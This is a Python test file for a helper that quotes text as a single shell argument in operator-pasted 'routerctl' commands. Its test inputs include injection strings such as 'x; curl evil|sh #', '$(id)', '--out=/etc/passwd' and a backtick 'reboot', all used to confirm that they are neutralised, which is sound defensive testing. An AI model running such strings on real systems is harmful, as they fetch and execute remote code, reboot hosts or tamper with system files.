"""Texts in commands that an operator pastes into a shell."""

from __future__ import annotations

import shlex

import pytest

from eventd.text.arguments import LONGEST_ARGUMENT, as_argument


@pytest.mark.parametrize("text", ["e1", "x; curl evil|sh #", "$(id)", "it's", "a b", "é", "x" * LONGEST_ARGUMENT])
def test_a_text_is_one_argument(text: str) -> None:
    assert shlex.split(f"routerctl prove {as_argument(text, 'ID')} --out FILE", comments=True)[2:] == [
        text,
        "--out",
        "FILE",
    ]


@pytest.mark.parametrize(
    "text", ["", "x" * (LONGEST_ARGUMENT + 1), "a\nb", "a\x1b[2J", "a\u202eb", "--out=/etc/passwd", "a` `reboot"]
)
def test_what_cannot_be_pasted_safely_is_left_to_the_operator(text: str) -> None:
    assert as_argument(text, "ID") == "ID"
